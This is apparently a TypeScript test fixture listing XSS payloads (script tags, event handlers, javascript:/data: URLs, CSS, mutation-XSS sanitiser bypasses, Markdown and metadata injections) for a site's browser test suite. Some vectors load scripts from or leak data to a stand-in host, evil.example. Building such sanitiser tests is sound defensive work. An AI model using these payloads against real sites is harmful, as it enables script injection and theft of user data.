/**
 * XSS payloads for the browser suite, written from public vector lists
 * (OWASP's XSS Filter Evasion Cheat Sheet, the HTML5 Security Cheatsheet,
 * published sanitiser bypasses) and from the places where linkedom parses
 * differently from a browser. Each one becomes a post: `html` payloads both as
 * a raw HTML block and inline in a Markdown paragraph, `markdown` payloads as
 * Markdown. Most call alert(1); the suite also catches any other execution,
 * navigation and request off the site.
 *
 * Keep every payload free of blank lines: a blank line ends a Markdown HTML block.
 */
export interface XssVector {
  name: string
  html?: string
  markdown?: string
}

const SVG_ONLOAD_B64 = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=' // <svg xmlns=… onload="alert(1)"/>
const SCRIPT_B64 = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' // <script>alert(1)</script>
const USE_B64 =
  'PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=' // <svg id='x'><image href='1' onerror='alert(1)'/></svg>
const EVIL = 'https://evil.example'

export const XSS_VECTORS: XssVector[] = [
  // Script elements, plain and disguised.
  { name: 'script element', html: '<script>alert(1)</script>' },
  { name: 'script src off-site', html: `<SCRIPT SRC=${EVIL}/xss.js></SCRIPT>` },
  { name: 'script src data:', html: '<script src=data:text/javascript,alert(1)></script>' },
  { name: 'script fromCharCode', html: '<script>alert(String.fromCharCode(88,83,83))</script>' },
  { name: 'extraneous open brackets', html: '<<SCRIPT>alert(1);//<</SCRIPT>' },
  { name: 'script with non-alpha separator', html: '<SCRIPT/XSS SRC="data:,alert(1)"></SCRIPT>' },
  { name: 'script slash src', html: '<SCRIPT/SRC="data:,alert(1)"></SCRIPT>' },
  { name: 'module script', html: '<script type="module">alert(1)</script>' },
  { name: 'nested script tags', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'closing then opening script', html: '</script><script>alert(1)</script>' },
  {
    name: 'JSON-LD break-out',
    html: '<script type="application/ld+json">{"x":"</script><script>alert(1)</script>"}</script>',
  },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg script with entities (decoded in foreign content)',
    html: '<svg><script>alert&#40;1&#41;</script></svg>',
  },
  { name: 'svg script href', html: '<svg><script href="data:,alert(1)"/></svg>' },
  { name: 'svg script xlink:href', html: '<svg><script xlink:href="data:,alert(1)"></script></svg>' },
  {
    name: 'svg handler element',
    html: '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
  },

  // Event handler attributes.
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror fromCharCode', html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  { name: 'img onerror eval(src)', html: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  {
    name: 'img onerror decimal entities',
    html: '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
  },
  { name: 'img onerror hex entities', html: '<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>' },
  { name: 'img onerror named entities', html: '<img src=x onerror=alert&lpar;1&rpar;>' },
  { name: 'slashes for spaces', html: '<img/src=x/onerror=alert(1)>' },
  { name: 'form feed before handler', html: '<img src=x\fonerror=alert(1)>' },
  { name: 'quotes confusion', html: '<IMG """><SCRIPT>alert(1)</SCRIPT>">' },
  { name: 'backtick value', html: '<img src=`x` onerror=alert(1)>' },
  { name: 'img onerror computed name', html: `<img src=x onerror="window['al'+'ert'](1)">` },
  { name: 'img onerror number to name', html: '<img src=x onerror=top[8680439..toString(30)](1)>' },
  { name: 'img onerror setTimeout string', html: `<img src=x onerror="setTimeout('alert(1)')">` },
  { name: 'img onerror Function', html: `<img src=x onerror="Function('alert(1)')()">` },
  { name: 'img onerror document.write', html: `<img src=x onerror="document.write('<img src=y onerror=alert(1)>')">` },
  { name: 'img onerror eval(id)', html: '<img src=x id=alert(1) onerror=eval(id)>' },
  { name: 'img onerror atob', html: `<img src=x onerror="eval(atob('YWxlcnQoMSk='))">` },
  { name: 'img onerror unicode escape', html: '<img src=x onerror=\\u0061lert(1)>' },
  { name: 'img onerror comma operator', html: '<img src=x onerror="a=alert,a(1)">' },
  { name: 'img onerror javascript: label', html: '<img src=x onerror="javascript:alert(1)">' },
  { name: 'unclosed img swallowing the next tag', html: '<img src=x onerror=alert(1)//' },
  { name: 'body onload (merged into the real body)', html: '<body onload=alert(1)>' },
  { name: 'body onpageshow', html: '<body onpageshow=alert(1)>' },
  { name: 'html onmouseover (merged into the root)', html: '<html onmouseover=alert(1)>' },
  { name: 'svg onload', html: '<svg onload=alert(1)>' },
  { name: 'svg/onload', html: '<svg/onload=alert(1)>' },
  { name: 'svg g onload', html: '<svg xmlns="http://www.w3.org/2000/svg"><g onload="alert(1)"></g></svg>' },
  { name: 'svg image onerror', html: '<svg><image href=x onerror=alert(1)></image></svg>' },
  { name: 'svg animate onbegin', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  { name: 'svg set onbegin', html: '<svg><set onbegin=alert(1) attributename=x to=1>' },
  { name: 'svg discard onbegin', html: '<svg><discard onbegin=alert(1)>' },
  { name: 'svg animatetransform onbegin', html: '<svg><animatetransform onbegin=alert(1) attributeName=transform>' },
  { name: 'input autofocus onfocus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'select autofocus onfocus', html: '<select autofocus onfocus=alert(1)></select>' },
  { name: 'textarea autofocus onfocus', html: '<textarea autofocus onfocus=alert(1)></textarea>' },
  { name: 'div tabindex onfocus', html: '<div tabindex=1 onfocus=alert(1) id=focusme>focus me</div>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'video source onerror', html: '<video><source onerror=alert(1)></video>' },
  { name: 'video controls source onerror', html: '<video controls><source src=x onerror=alert(1)></video>' },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'iframe onload', html: '<iframe onload=alert(1)></iframe>' },
  { name: 'object onerror', html: '<object data=x onerror=alert(1)></object>' },
  { name: 'style onload', html: '<style onload=alert(1)></style>' },
  { name: 'link onerror', html: '<link rel=stylesheet href=x onerror=alert(1)>' },
  {
    name: 'css animation handler',
    html: '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>',
  },
  {
    name: 'css transition handler',
    html: '<div style="transition:color 1ms" ontransitionend=alert(1) id=t>x</div><style>#t{color:red}</style>',
  },
  { name: 'mouseover covering the page', html: '<div onmouseover=alert(1) style="position:fixed;inset:0">x</div>' },
  { name: 'anchor onmouseover', html: '<a onmouseover=alert(1)>hover me</a>' },
  { name: 'custom element onclick', html: '<x onclick=alert(1)>click me</x>' },
  { name: 'isindex onerror', html: '<isindex type=image src=1 onerror=alert(1)>' },
  { name: 'keygen autofocus', html: '<keygen autofocus onfocus=alert(1)>' },
  { name: 'frameset onload', html: '<frameset onload=alert(1)>' },
  { name: 'onclick with javascript:void', html: '<a href="javascript:void(0)" onclick="alert(1)">x</a>' },
  {
    name: 'popover beforetoggle',
    html: '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>',
  },

  // javascript:, vbscript: and data: URLs.
  { name: 'javascript: link', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'mixed-case javascript:', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  {
    name: 'javascript: decimal entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: 'javascript: long decimal entities without semicolons',
    html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">x</a>',
  },
  {
    name: 'javascript: hex entities without semicolons',
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
  },
  { name: 'javascript: with tab', html: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'javascript: with encoded tab', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'javascript: with encoded newline', html: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'javascript: with encoded carriage return', html: '<a href="jav&#x0D;ascript:alert(1)">x</a>' },
  { name: 'javascript: with leading space and control', html: '<a href=" &#14;  javascript:alert(1)">x</a>' },
  { name: 'javascript: with NUL', html: '<a href="java\u0000script:alert(1)">x</a>' },
  { name: 'javascript&colon;', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'java&NewLine;script', html: '<a href="java&NewLine;script:alert(1)">x</a>' },
  { name: '&Tab;javascript', html: '<a href="&Tab;javascript:alert(1)">x</a>' },
  { name: 'javascript:// with newline', html: '<a href="javascript://%0aalert(1)">x</a>' },
  { name: 'vbscript:', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'data: HTML link', html: `<a href="data:text/html;base64,${SCRIPT_B64}">x</a>` },
  { name: 'data: SVG link', html: `<a href="data:image/svg+xml;base64,${SVG_ONLOAD_B64}">x</a>` },
  { name: 'img src javascript:', html: '<img src="javascript:alert(1)">' },
  { name: 'img src javascript: with tab entity', html: '<IMG SRC="jav&#x09;ascript:alert(1);">' },
  { name: 'img dynsrc and lowsrc', html: '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">' },
  { name: 'img src data: HTML', html: `<img src="data:text/html;base64,${SCRIPT_B64}">` },
  {
    name: 'img src data: SVG with script',
    html: '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
  },
  { name: 'srcset javascript:', html: '<img srcset="javascript:alert(1) 1x">' },
  { name: 'srcset data: HTML candidate', html: '<img srcset="x 1x, data:text/html,<script>alert(1)</script> 2x">' },
  { name: 'picture source javascript:', html: '<picture><source srcset="javascript:alert(1)"><img src=x></picture>' },
  { name: 'video poster javascript:', html: '<video poster=javascript:alert(1)//></video>' },
  { name: 'input image javascript:', html: '<input type="image" src="javascript:alert(1)">' },
  { name: 'iframe javascript:', html: '<iframe src="javascript:alert(1)"></iframe>' },
  {
    name: 'iframe javascript: behind an allowed host',
    html: '<iframe src="javascript://www.youtube.com/%0aalert(1)"></iframe>',
  },
  { name: 'iframe data: HTML', html: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>' },
  { name: 'iframe srcdoc script', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'iframe srcdoc entity-encoded img', html: '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>' },
  {
    name: 'allowed iframe with srcdoc',
    html: '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>',
  },
  {
    name: 'allowed iframe with onload',
    html: '<iframe src="https://www.youtube.com/embed/x" onload=alert(1)></iframe>',
  },
  {
    name: 'allowed iframe with a permissive sandbox',
    html: '<iframe src="https://www.youtube.com/embed/x" sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups-to-escape-sandbox"></iframe>',
  },
  { name: 'iframe host suffix trick', html: '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>' },
  { name: 'iframe userinfo trick', html: '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>' },
  { name: 'iframe fragment trick', html: `<iframe src="${EVIL}/#https://www.youtube.com/embed/x"></iframe>` },
  { name: 'embed javascript:', html: '<embed src="javascript:alert(1)">' },
  { name: 'embed data: SVG', html: `<embed src="data:image/svg+xml;base64,${SVG_ONLOAD_B64}" type="image/svg+xml">` },
  { name: 'object javascript:', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'object data: HTML', html: `<object data="data:text/html;base64,${SCRIPT_B64}"></object>` },
  { name: 'object scriptlet', html: `<object type="text/x-scriptlet" data="${EVIL}/xss.sct"></object>` },
  { name: 'applet', html: '<applet code="xss.class" codebase="https://evil.example/"></applet>' },
  { name: 'form action javascript:', html: '<form action="javascript:alert(1)"><input type=submit></form>' },
  { name: 'button formaction', html: '<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>' },
  {
    name: 'svg anchor xlink:href',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
  },
  {
    name: 'svg anchor href around a rect',
    html: '<svg><a href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
  },
  {
    name: 'svg animate sets href',
    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>',
  },
  { name: 'svg use data: document', html: `<svg><use href="data:image/svg+xml;base64,${USE_B64}#x"/></svg>` },
  { name: 'math href', html: '<math href="javascript:alert(1)">CLICKME</math>' },
  {
    name: 'math maction xlink:href',
    html: '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">CLICK</maction></math>',
  },
  { name: 'anchor ping off-site', html: `<a href="/" ping="${EVIL}/ping">x</a>` },

  // Document-level elements: refresh, base, CSP, imports.
  { name: 'meta refresh javascript:', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">' },
  {
    name: 'meta refresh data:',
    html: `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${SCRIPT_B64}">`,
  },
  { name: 'meta refresh off-site', html: `<meta http-equiv="refresh" content="0; url=${EVIL}/">` },
  { name: 'meta set-cookie', html: '<meta http-equiv="Set-Cookie" content="xss=1">' },
  {
    name: 'meta CSP relaxation',
    html: `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>alert(1)</script>`,
  },
  { name: 'meta charset UTF-7', html: '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  { name: 'base href javascript:', html: '<base href="javascript:alert(1)//"><a href="x">x</a>' },
  { name: 'base href off-site', html: `<base href="${EVIL}/"><a href="x">x</a><img src="y">` },
  { name: 'link import', html: '<link rel="import" href="data:text/html,<script>alert(1)</script>">' },
  { name: 'link stylesheet javascript:', html: '<link rel=stylesheet href="javascript:alert(1)">' },
  { name: 'link preload off-site', html: `<link rel=preload as=image href="${EVIL}/pixel.png">` },
  { name: 'portal', html: `<portal src="${EVIL}/"></portal>` },

  // CSS.
  { name: 'style attribute url(javascript:)', html: '<div style="background-image: url(javascript:alert(1))">x</div>' },
  { name: 'style attribute expression()', html: '<div style="width: expression(alert(1));">x</div>' },
  { name: 'style attribute escaped expression', html: '<div style="x:\\65xpression(alert(1))">x</div>' },
  { name: 'style attribute off-site url()', html: `<div style="background:url(${EVIL}/track.png)">x</div>` },
  { name: 'style attribute -moz-binding', html: `<div style="-moz-binding:url(${EVIL}/xss.xml#xss)">x</div>` },
  { name: 'style attribute behavior', html: '<xss style="behavior: url(xss.htc);">x</xss>' },
  { name: 'style element @import javascript:', html: `<style>@import 'javascript:alert(1)';</style>` },
  { name: 'style element @import off-site', html: `<style>@import '${EVIL}/x.css';</style>` },
  { name: 'style element url(javascript:)', html: '<style>body{background:url("javascript:alert(1)")}</style>' },
  {
    name: 'style element list-style-image',
    html: '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  },
  { name: 'style element expression()', html: '<style>*{x:expression(alert(1))}</style>' },
  {
    name: 'style element attribute-selector exfiltration',
    html: `<style>a[href^="/"]{background:url(${EVIL}/leak)}</style>`,
  },
  {
    name: 'page-covering overlay',
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">Log in again</div>',
  },

  // Raw-text and RCDATA elements whose end a sanitiser may misjudge.
  {
    name: 'noscript title break-out',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  { name: 'noscript escaped text', html: '<noscript>&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;</noscript>' },
  { name: 'iframe content break-out', html: '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>' },
  { name: 'noembed break-out', html: '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>' },
  { name: 'noframes break-out', html: '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>' },
  { name: 'xmp break-out', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { name: 'textarea break-out', html: '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>' },
  { name: 'textarea escaped text', html: '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=alert(1)&gt;</textarea>' },
  { name: 'title break-out', html: '<title><p title="</title><img src=x onerror=alert(1)>"></title>' },
  { name: 'title escaped text', html: '<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>' },
  { name: 'style break-out', html: '<style><p title="</style><img src=x onerror=alert(1)>"></style>' },
  { name: 'plaintext', html: '<plaintext><img src=x onerror=alert(1)>' },

  // Comments, CDATA and processing instructions: where linkedom and browsers disagree.
  { name: 'comment closed by --!>', html: '<!-- --!><img src=x onerror=alert(1)> -->' },
  { name: 'comment closed by --!> without space', html: '<!--a--!><img src=x onerror=alert(1)>-->' },
  { name: 'abrupt comment <!-->', html: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'abrupt comment <!--->', html: '<!---><img src=x onerror=alert(1)>-->' },
  { name: 'conditional comment', html: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->' },
  { name: 'CDATA in HTML is a bogus comment', html: '<![CDATA[><img src=x onerror=alert(1)>]]>' },
  { name: 'CDATA in SVG', html: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },
  { name: 'processing instruction', html: '<?xml ><img src=x onerror=alert(1)>?>' },
  { name: 'comment in attribute', html: '<a title="<!--"><img src=x onerror=alert(1)>-->' },

  // Namespace confusion and mutation XSS (published DOMPurify bypasses).
  { name: 'svg style holds markup', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { name: 'svg p style anchor', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { name: 'math mtext table mglyph style', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  {
    name: 'math mglyph style comment',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  },
  {
    name: 'form math mtext mglyph',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  { name: 'svg foreignObject', html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>' },
  { name: 'svg desc', html: '<svg><desc><img src=x onerror=alert(1)></desc></svg>' },
  { name: 'svg title', html: '<svg><title><img src=x onerror=alert(1)></title></svg>' },
  {
    name: 'math annotation-xml',
    html: '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  },
  {
    name: 'math annotation-xml style',
    html: '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  },
  { name: 'template img', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'template script', html: '<template><script>alert(1)</script></template>' },
  {
    name: 'select template style',
    html: '<select><template><style><!--</style><img src=x onerror=alert(1)>--></template></select>',
  },
  { name: 'table foster parenting', html: '<table><img src=x onerror=alert(1)></table>' },
  { name: 'table svg style', html: '<table><tr><td><svg><style></td><img src=x onerror=alert(1)>' },
  { name: 'nested forms', html: '<form><form><img src=x onerror=alert(1)></form></form>' },

  // Markup hidden in attribute values and text that must stay text.
  { name: 'entity-quoted attribute break-out', html: '<div data-x="&quot;><img src=x onerror=alert(1)>">x</div>' },
  { name: 'escaped markup in title attribute', html: '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>' },
  { name: 'handler in alt', html: '<img alt="&quot; onerror=&quot;alert(1)" src=x>' },
  { name: 'escaped markup as text', html: '<span>&lt;img src=x onerror=alert(1)&gt;</span>' },
  { name: 'escaped script in pre', html: '<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>' },
  { name: 'escaped svg in code', html: '<code>&lt;svg onload=alert(1)&gt;</code>' },
  { name: 'double-escaped markup', html: '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>' },

  // Markdown.
  { name: 'markdown link javascript:', markdown: '[click](javascript:alert(1))' },
  { name: 'markdown link mixed case', markdown: '[click](JaVaScRiPt:alert(1))' },
  { name: 'markdown link entity-encoded', markdown: '[click](&#106;avascript:alert(1))' },
  { name: 'markdown link percent-encoded scheme', markdown: '[click](javascript%3Aalert(1))' },
  { name: 'markdown image javascript:', markdown: '![img](javascript:alert(1))' },
  { name: 'markdown image onerror in title', markdown: '![img](x "\\" onerror=\\"alert(1)")' },
  { name: 'markdown autolink javascript:', markdown: '<javascript:alert(1)>' },
  { name: 'markdown reference link', markdown: '[click][x]\n\n[x]: javascript:alert(1)' },
  { name: 'markdown link data:', markdown: `[click](data:text/html;base64,${SCRIPT_B64})` },
  { name: 'markdown link text holds markup', markdown: '[<img src=x onerror=alert(1)>](https://example.com/)' },
  { name: 'markdown code span around markup', markdown: '`<img src=x onerror=alert(1)>`' },
  { name: 'markdown fenced code with markup', markdown: '```html\n<script>alert(1)</script>\n```' },
]

/** Posts whose metadata, not body, carries payloads: titles, authors, tags, categories, descriptions. */
export const XSS_METADATA: {
  title: string
  author: string
  tags: string[]
  categories: string[]
  description: string
}[] = [
  {
    title: '<script>alert(1)</script> in a title',
    author: '<img src=x onerror=alert(1)>',
    tags: ['<svg onload=alert(1)>', 'xss-e2e'],
    categories: ['"><script>alert(1)</script>'],
    description: '</title><script>alert(1)</script>',
  },
  {
    title: '"></title><img src=x onerror=alert(1)>',
    author: "'><svg/onload=alert(1)>",
    tags: ['javascript:alert(1)', '</script><script>alert(1)</script>'],
    categories: ['xss-e2e'],
    description: '"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  },
  {
    title: '</script><script>alert(1)</script>{"@context":"x"}',
    author: '\u2028\u2029</script>',
    tags: ['<!--', '-->'],
    categories: ['&lt;img src=x onerror=alert(1)&gt;'],
    description: ']]><img src=x onerror=alert(1)>',
  },
]
